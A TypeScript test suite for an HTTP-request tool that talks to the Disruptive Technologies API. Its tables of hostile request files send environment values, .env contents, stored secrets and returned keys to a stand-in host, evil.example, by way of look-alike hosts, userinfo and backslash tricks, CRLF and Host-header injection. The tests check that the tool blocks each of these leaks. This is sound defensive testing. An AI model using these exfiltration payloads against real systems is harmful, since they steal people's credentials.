import assert from 'node:assert/strict';
import type { Interaction, Question } from '../../../src/app/session/interaction';
import type { FindingCode } from '../../../src/language/plan/findings';
import { answer, HostileWorld } from '../../helpers/hostileWorld';
import { assertNoTrace, assertTrace, type Planted } from '../../helpers/hostile';
import { type Attack, everySecret, outcomeOf, secrets, Victim } from './victim';

/** Somebody who agrees to everything, but to `but`. */
const careless = (but?: Question['kind']): Interaction => ({
  prompt: () => Promise.resolve({ kind: 'answered', value: 'evil.example' }),
  confirm: ({ kind }) => Promise.resolve(kind === but ? { kind: 'unavailable', instead: 'nobody is asked' } : { kind: 'answered', value: true }),
});

interface Row extends Attack {
  readonly text: string;
  /**
   * - `evil`: it is sent to a host that is not DT's, over TLS or not, with nothing of the person's;
   * - `DT`: it is sent to DT, signed;
   * - the code of a finding: it is not sent at all.
   */
  readonly to: 'evil' | 'DT' | FindingCode;
  /** What may be sent there, and is. */
  readonly agreed?: readonly Planted[];
}

const api = 'api.disruptive-technologies.com';
const environment = (variables: Readonly<Record<string, unknown>>) => ({ 'http-client.env.json': JSON.stringify({ $shared: variables }) });
/** `GET /projects` with another base. */
const base = (apiBase: unknown, to: Row['to'], more: Readonly<Record<string, unknown>> = {}): Row => ({ text: 'GET /projects\n', files: environment({ apiBase, ...more }), to });
const plain = (text: string, to: Row['to'], more: Partial<Row> = {}): Row => ({ text, to, ...more });
/** A request to DT whose answer holds a secret, in front of another. */
const key = '# @name key\nGET /projects/a/serviceaccounts/b/keys/c\n\n###\n';
/** `GET {{url}}` of an environment file. */
const url = (value: string, to: Row['to']): Row => ({ text: 'GET {{url}}\n', files: environment({ url: value }), to });

const groups: Readonly<Record<string, Readonly<Record<string, Row>>>> = {
  'the base of the API in an environment file': {
    'is as documented: signed': plain('GET /projects\n', 'DT'),
    "is DT's short name: signed": base('https://api.d21s.com/v2', 'DT'),
    'has a dot at the end of the host: the same host': base(`https://${api}./v2`, 'DT'),
    'is in capitals': base(`HTTPS://${api.toUpperCase()}/v2`, 'DT'),
    'names the port that it is anyway': base(`https://${api}:443/v2`, 'DT'),
    'is another host': base('https://evil.example/v2', 'evil'),
    'is another host, and names the account': base('https://evil.example/v2', 'evil', { account: 'mine' }),
    'begins like DT': base(`https://${api}.evil.example/v2`, 'evil'),
    'ends like DT': base(`https://evil-${api}/v2`, 'evil'),
    'has a hyphen for a dot': base('https://api-disruptive-technologies.com/v2', 'evil'),
    'is below DT': base(`https://x.${api}/v2`, 'evil'),
    'is DT without its first name': base('https://disruptive-technologies.com/v2', 'evil'),
    'is a look-alike in Punycode': base('https://xn--pi-6kc.disruptive-technologies.com/v2', 'evil'),
    'is a look-alike in Unicode': base('https://аpi.disruptive-technologies.com/v2', 'target.base'),
    'is DT at another port': base(`https://${api}:444/v2`, 'evil'),
    'is DT without TLS': base(`http://${api}/v2`, 'evil'),
    'is DT without TLS at another port': base(`http://${api}:8080/v2`, 'evil'),
    'has DT as its user': base(`https://${api}@evil.example/v2`, 'target.base'),
    'has DT and its port as user and password': base(`https://${api}:443@evil.example/v2`, 'target.base'),
    'has DT as its user, encoded': base(`https://${api}%40evil.example/v2`, 'target.base'),
    'has DT in front of a backslash': base(`https://${api}\\@evil.example/v2`, 'target.base'),
    'has DT behind a hash': base(`https://evil.example#@${api}/v2`, 'target.base'),
    'has DT behind a question mark': base(`https://evil.example?@${api}/v2`, 'target.base'),
    'has DT in its path': base(`https://evil.example/${api}/v2`, 'evil'),
    'has a line break in it': base(`https://${api}/v2 HTTP/1.1\r\nHost: evil.example\r\nX: `, 'target.base'),
    'has a tab in its host': base(`https://evil\t.example/v2`, 'target.base'),
    'has no scheme': base('//evil.example/v2', 'target.base'),
    'is a file': base('file:///etc', 'target.base'),
    'asks for a value of the process, which is not replaced there': base('https://evil.example/{{$processEnv PLANTED}}/v2', 'target.base'),
    'is a stored secret that is no address': base({ $secret: 'vault' }, 'target.base'),
    'is another host for Basic': { text: '# @auth basic\nGET /projects\n', files: environment({ apiBase: 'https://evil.example/v2' }), to: 'evil' },
    'is another host for a POST': { text: 'POST /projects\n\n{ "displayName": "x" }\n', files: environment({ apiBase: 'https://evil.example/v2' }), to: 'evil' },
    'is another host for a path with a version': { text: 'GET /v2/projects\n', files: environment({ apiBase: 'https://evil.example/v2' }), to: 'evil' },
    'is set in the file': plain('@apiBase = https://evil.example/v2\nGET /projects\n', 'evil'),
    'is set in the private file': { text: 'GET /projects\n', files: { 'http-client.private.env.json': JSON.stringify({ $shared: { apiBase: 'https://evil.example/v2' } }) }, to: 'evil' },
    'is set by another tool': plain('GET /projects\n', 'evil', { moreEnvironments: [{ uri: 'settings:rest-client.environmentVariables', isPrivate: false, findings: [], environments: new Map([['$shared', new Map([['apiBase', { kind: 'text', text: 'https://evil.example/v2', span: { start: 0, end: 0 } }]])]]) }] }),
  },
  'the base of the emulator in an environment file': {
    'is as documented: signed': plain('GET {{emulatorBase}}/projects/a/devices\n', 'DT'),
    'is another host': { text: '# @host emulator\nGET /projects/a/devices\n', files: environment({ emulatorBase: 'https://evil.example/v2' }), to: 'evil' },
    'is another host, and named': { text: 'GET {{emulatorBase}}/projects/a/devices\n', files: environment({ emulatorBase: 'https://evil.example/v2' }), to: 'evil' },
    'is another port': { text: '# @host emulator\nGET /projects/a/devices\n', files: environment({ emulatorBase: 'https://emulator.d21s.com:8443/v2' }), to: 'evil' },
  },
  'an imported file': {
    'redefines the base, and what it has runs first': {
      text: '# @import ./shared.http\n\n# @ref other\nGET https://evil.example/after\n',
      files: { 'shared.http': '@apiBase = https://evil.example/v2\n\n# @name other\nGET /projects\n' },
      to: 'evil',
    },
    'redefines the base for the file that imports it': { text: '# @import ./shared.http\n\nGET {{apiBase}}/projects\n', files: { 'shared.http': '@apiBase = https://evil.example/v2\n' }, to: 'evil' },
    'is outside of the folder': { text: '# @import ../outside.http\n\nGET {{apiBase}}/projects\n', files: { '../outside.http': '@apiBase = https://evil.example/v2\n' }, to: 'import.outside' },
    'sends a value of the process': { text: '# @import ./shared.http\n\nGET https://evil.example/?{{%value}}\n', files: { 'shared.http': '@value = {{$processEnv PLANTED}}\n' }, to: 'variable.guarded' },
  },
  'a Host header': {
    'of DT: signed': plain(`GET /v2/projects\nHost: ${api}\n`, 'DT'),
    'of another host': plain('GET /v2/projects\nHost: evil.example\n', 'evil'),
    "of DT's name at another port": plain(`GET /v2/projects\nHost: ${api}:444\n`, 'evil'),
    'of a user at another host': plain(`GET /v2/projects\nHost: ${api}@evil.example\n`, 'target.host'),
    'of another host over that of the address': plain(`GET https://${api}/v2/projects\nHost: evil.example\n`, 'target.host-differs'),
    'of DT over the address of another host': plain(`GET https://evil.example/v2/projects\nHost: ${api}\n`, 'target.host-differs'),
    'of DT over an address with another port': plain(`GET https://${api}:444/v2/projects\nHost: ${api}\n`, 'target.host-differs'),
    'of DT, and a second one': plain(`GET /v2/projects\nHost: ${api}\nHost: evil.example\n`, 'header.repeated-host'),
    'of DT, and a second one first': plain(`GET /v2/projects\nHost: evil.example\nHost: ${api}\n`, 'header.repeated-host'),
    'with a path': plain(`GET /v2/projects\nHost: evil.example/${api}\n`, 'target.host'),
    'from a variable': { text: 'GET /v2/projects\nHost: {{host}}\n', files: environment({ host: 'evil.example' }), to: 'evil' },
    'from a variable with a line break': { text: 'GET /v2/projects\nHost: {{host}}\n', files: environment({ host: `${api}\r\nHost: evil.example` }), to: 'target.host' },
    'next to X-Forwarded-Host': plain('GET https://evil.example/v2/projects\nX-Forwarded-Host: ' + api + '\n', 'evil'),
  },
  'a whole address in a variable': {
    'of DT: signed': url(`https://${api}/v2/projects`, 'DT'),
    'of another host': url('https://evil.example/v2/projects', 'evil'),
    'with DT as the user': url(`https://${api}@evil.example/`, 'target.userinfo'),
    'with a line break': url(`https://${api}/v2\r\nHost: evil.example`, 'value.line-break'),
    'without a scheme': url('evil.example/v2/projects', 'evil'),
    'of another host without TLS': url('http://evil.example/v2/projects', 'evil'),
    'that is put behind DT': { text: `GET https://${api}{{tail}}\n`, files: environment({ tail: '.evil.example/' }), to: 'evil' },
    'that is put behind DT as a port': { text: `GET https://${api}{{tail}}\n`, files: environment({ tail: ':444/' }), to: 'evil' },
    'that is put behind DT as a host': { text: `GET https://${api}{{tail}}\n`, files: environment({ tail: '@evil.example/' }), to: 'target.userinfo' },
    'that is put behind DT with a backslash': { text: `GET https://${api}{{tail}}\n`, files: environment({ tail: '\\.evil.example/' }), to: 'target.host' },
    'that is put in front of DT': { text: `GET {{front}}${api}/v2/projects\n`, files: environment({ front: 'https://evil.example/' }), to: 'evil' },
    'that a person types': plain('# @prompt where Where?\nGET https://{{where}}/v2/projects\n', 'evil'),
    'that another answer gave': plain('# @name first\nGET https://evil.example/first\n\n###\nGET {{first.response.body.$.next}}\n', 'evil'),
  },
  'a value of this machine': {
    'goes to DT': plain('@v = {{$processEnv PLANTED}}\nGET /projects?a={{%v}}\nX-B: {{$dotenv PLANTED}}\n', 'DT', { agreed: [secrets.process, secrets.dotenv] }),
    'in a header': plain('GET https://evil.example/\nX-A: {{$processEnv PLANTED}}\n', 'variable.guarded'),
    'of .env in a header': plain('GET https://evil.example/\nX-A: {{$dotenv PLANTED}}\n', 'variable.guarded'),
    'in the address': plain('@v = {{$processEnv PLANTED}}\nGET https://evil.example/{{%v}}\n', 'variable.guarded'),
    'in the query': plain('@v = {{$dotenv PLANTED}}\nGET https://evil.example/?a={{%v}}\n', 'variable.guarded'),
    'in the name of the host': plain('GET https://{{$processEnv PLANTED_WORD}}.evil.example/\n', 'variable.guarded'),
    'in a body': plain('POST https://evil.example/\n\n{{$env.PLANTED}}\n', 'variable.guarded'),
    'by way of two variables': plain('@a = x{{$processEnv PLANTED}}\n@b = {{a}}y\nPOST https://evil.example/\n\n{{b}}\n', 'variable.guarded'),
    'to a host of DT at another port': plain(`GET https://${api}:444/\nX-A: {{$processEnv PLANTED}}\n`, 'variable.guarded'),
    'to DT without TLS': plain(`GET http://${api}/\nX-A: {{$processEnv PLANTED}}\n`, 'variable.guarded'),
    'to a base that is not DT': { text: 'GET /projects\nX-A: {{$processEnv PLANTED}}\n', files: environment({ apiBase: 'https://evil.example/v2' }), to: 'variable.guarded' },
    'out of the request of another': plain('# @name one\nGET /projects\nX-A: {{$processEnv PLANTED}}\n\n###\nGET https://evil.example/\nX-A: {{one.request.headers.X-A}}\n', 'variable.guarded'),
    'out of the answer that repeats it': plain('# @name echo\nGET /projects\nX-A: {{$processEnv PLANTED}}\n\n###\nGET https://evil.example/\nX-A: {{echo.response.body.$.echo}}\n', 'variable.guarded'),
    'out of the answer as a whole': plain('# @name echo\nGET /projects\nX-A: {{$processEnv PLANTED}}\n\n###\nPOST https://evil.example/\n\n{{echo.response.body.*}}\n', 'variable.guarded'),
    'in a file with variables': { text: 'POST https://evil.example/\n\n<@ ./body.txt\n', files: { 'body.txt': '{{$processEnv PLANTED}}' }, to: 'variable.guarded' },
    'in the base of the API': plain('@apiBase = https://evil.example/{{$processEnv PLANTED_WORD}}\nGET /projects\n', 'variable.guarded'),
    'in the base of the emulator': plain('@emulatorBase = https://evil.example/{{$processEnv PLANTED_WORD}}\n# @host emulator\nGET /projects\n', 'variable.guarded'),
    'in a Host header': plain('GET /projects\nHost: {{$processEnv PLANTED_WORD}}.evil.example\n', 'variable.guarded'),
    'in the name of a header': plain('GET https://evil.example/\n{{$processEnv PLANTED_WORD}}: 1\n', 'header.name'),
    'as the method': plain('{{$processEnv PLANTED_WORD}} https://evil.example/\n', 'target.character'),
    'in a form': plain('POST https://evil.example/\nContent-Type: application/x-www-form-urlencoded\n\na=1\n&b={{%$processEnv PLANTED}}\n', 'variable.guarded'),
    'in a part of a body': plain('POST https://evil.example/\nContent-Type: multipart/form-data; boundary=x\n\n--x\nContent-Disposition: form-data; name="{{$processEnv PLANTED_WORD}}"\n\n1\n--x--\n', 'variable.guarded'),
    'in the path of a file': plain('POST https://evil.example/\n\n< ./{{$processEnv PLANTED_WORD}}.txt\n', 'body.file-unreadable'),
    'of the file .env itself': plain('POST https://evil.example/\n\n< ./.env\n', 'body.file-refused'),
    'of the private environment file itself': plain('POST https://evil.example/\n\n< ./http-client.private.env.json\n', 'body.file-refused'),
    'that is a secret of our own': plain('GET /projects\nX-A: {{$processEnv DT_SERVICE_ACCOUNT_SECRET}}\n', 'variable.system-forbidden'),
    'that somebody agreed to': plain('GET https://evil.example/\nX-A: {{$processEnv PLANTED}}\n', 'evil', { interaction: careless(), agreed: [secrets.process] }),
    'that a setting of the machine allows': plain('GET https://evil.example/\nX-A: {{$dotenv PLANTED}}\n', 'evil', { allowed: ['https://evil.example'], agreed: [secrets.dotenv, secrets.token] }),
  },
  'what the product signed with': {
    'is not in the request that others refer to': plain('# @name one\nGET /projects\n\n###\nGET https://evil.example/\nX-A: {{one.request.headers.Authorization}}\n', 'reference.no-value'),
    'is not in its headers, whatever it is called': plain('# @name one\n# @auth basic\nGET /projects\n\n###\nGET https://evil.example/\nX-A: {{one.request.headers.authorization}}\n', 'reference.no-value'),
  },
  'a secret that an answer of DT gave': {
    'goes to DT': plain(`${key}GET /projects?a={{%key.response.body.$.secret}}\n`, 'DT', { agreed: [secrets.given] }),
    'in a header': plain(`${key}GET https://evil.example/\nX-A: {{key.response.body.$.secret}}\n`, 'variable.guarded'),
    'in the address': plain(`${key}GET https://evil.example/?{{%key.response.body.$.secret}}\n`, 'variable.guarded'),
    'in a body, with the whole answer': plain(`${key}POST https://evil.example/\n\n{{key.response.body}}\n`, 'variable.guarded'),
    'by way of a variable': plain(`${key}@v = x{{key.response.body.$.secret}}\nPOST https://evil.example/\n\n{{v}}\n`, 'variable.guarded'),
    'out of the answer that repeats it': plain(`${key}# @name echo\nGET /projects\nX-A: {{key.response.body.$.secret}}\n\n###\nGET https://evil.example/\nX-A: {{echo.response.body.$.echo}}\n`, 'variable.guarded'),
    'bit by bit, by a path that looks at it': plain(`${key}GET https://evil.example{{key.response.body.$[?match(@,'/v2.*')]}}\n`, 'variable.guarded'),
    'that somebody agreed to': plain(`${key}GET https://evil.example/\nX-A: {{key.response.body.$.secret}}\n`, 'evil', { interaction: careless(), agreed: [secrets.given] }),
    'beside what is no secret': plain(`${key}GET https://evil.example{{key.response.body.$.path}}\n`, 'evil'),
  },
  'a stored secret': {
    'goes where it may': plain('GET /projects?a={{%stored}}\nX-A: {{stored}}\n', 'DT', { agreed: [secrets.stored] }),
    'in a part of the name of the host': plain('GET https://{{stored}}.evil.example/\n', 'secret.origin'),
    'in a header': plain('GET https://evil.example/\nX-A: {{stored}}\n', 'secret.origin'),
    'in the address': plain('GET https://evil.example/?{{%stored}}\n', 'secret.origin'),
    'in the name of the host': plain('GET https://{{word}}.evil.example/\n', 'secret.origin'),
    'in a body': plain('POST https://evil.example/\n\n{{stored}}\n', 'secret.origin'),
    'by way of two variables': plain('@a = x{{stored}}\n@b = {{a}}y\nPOST https://evil.example/\n\n{{b}}\n', 'secret.origin'),
    'to a base that is not DT': { text: 'GET /projects\nX-A: {{stored}}\n', files: environment({ apiBase: 'https://evil.example/v2' }), to: 'secret.origin' },
    'to DT at another port': plain(`GET https://${api}:444/\nX-A: {{stored}}\n`, 'secret.origin'),
    'to DT without TLS': plain(`GET http://${api}/\nX-A: {{stored}}\n`, 'secret.origin'),
    'by a Host header': plain('GET /v2/projects\nHost: evil.example\nX-A: {{stored}}\n', 'secret.origin'),
    'out of the request of another': plain('# @name one\nGET /projects\nX-A: {{stored}}\n\n###\nGET https://evil.example/\nX-A: {{one.request.headers.X-A}}\n', 'secret.origin'),
    'out of the answer that repeats it': plain('# @name echo\nGET /projects\nX-A: {{stored}}\n\n###\nGET https://evil.example/\nX-A: {{echo.response.body.$.echo}}\n', 'secret.origin'),
    'in a file with variables': { text: 'POST https://evil.example/\n\n<@ ./body.txt\n', files: { 'body.txt': '{{stored}}' }, to: 'secret.origin' },
    'in the base of the API': plain('@apiBase = https://evil.example/{{word}}\nGET /projects\n', 'secret.origin'),
    'in the base of the emulator': plain('@emulatorBase = https://evil.example/{{word}}\nGET {{emulatorBase}}/projects\n', 'secret.origin'),
    'in the base of the emulator, by the directive': plain('@emulatorBase = https://evil.example/{{word}}\n# @host emulator\nGET /projects\n', 'secret.origin'),
    'in a Host header': plain('GET /projects\nHost: {{word}}.evil.example\n', 'secret.origin'),
    'by way of a request to a host that may have it': plain('# @name one\nGET /projects/{{word}}\n\n###\nPOST https://evil.example/\n\n{{one.response.body.$.path}}\n', 'secret.origin'),
  },
};

/** Wherever the files of a workspace lead a request, nothing of the person's goes along. */
describe('the address of a request', () => {
  let world: HostileWorld;
  let victim: Victim;
  before(async () => {
    world = await HostileWorld.start();
    victim = new Victim(world);
  });
  after(() => world.dispose());
  beforeEach(() => {
    world.forget();
    world.dt.answering = ({ text, target }) => answer(200, JSON.stringify({ echo: /^X-A: (.*)\r$/im.exec(text)?.[1] ?? '', path: target, secret: secrets.given.value }));
    world.evil.answering = () => answer(200, JSON.stringify({ next: `https://${api}.evil.example/second` }));
  });

  for (const [group, rows] of Object.entries(groups)) {
    describe(group, () => {
      for (const [title, { text, to, agreed = [], ...attack }] of Object.entries(rows)) {
        it(`${title}: ${to}`, async () => {
          const report = await victim.run(text, { interaction: careless('send-variable'), ...attack });
          const what = outcomeOf(report);
          const overheard = world.evil.heard.length + world.plain.heard.length;
          assert.equal(overheard > 0, to === 'evil', what);
          assertNoTrace(what, world.overheard, to === 'evil' ? everySecret.filter((each) => !agreed.includes(each)) : everySecret);
          assertTrace(what, to === 'evil' ? world.overheard : world.dt.octets, agreed);
          if (to === 'DT') assertTrace(what, world.dt.octets, [secrets.token]);
          else if (to !== 'evil') assert.equal(report.kind === 'refused' ? report.findings[0]?.finding.code : report.kind, to, what);
          assertNoTrace(`${what}: the report`, JSON.stringify(report, (key, value: unknown) => (key === 'plan' || key === 'result' ? undefined : value)) + victim.log.join('\n'), everySecret);
        });
      }
    });
  }
});
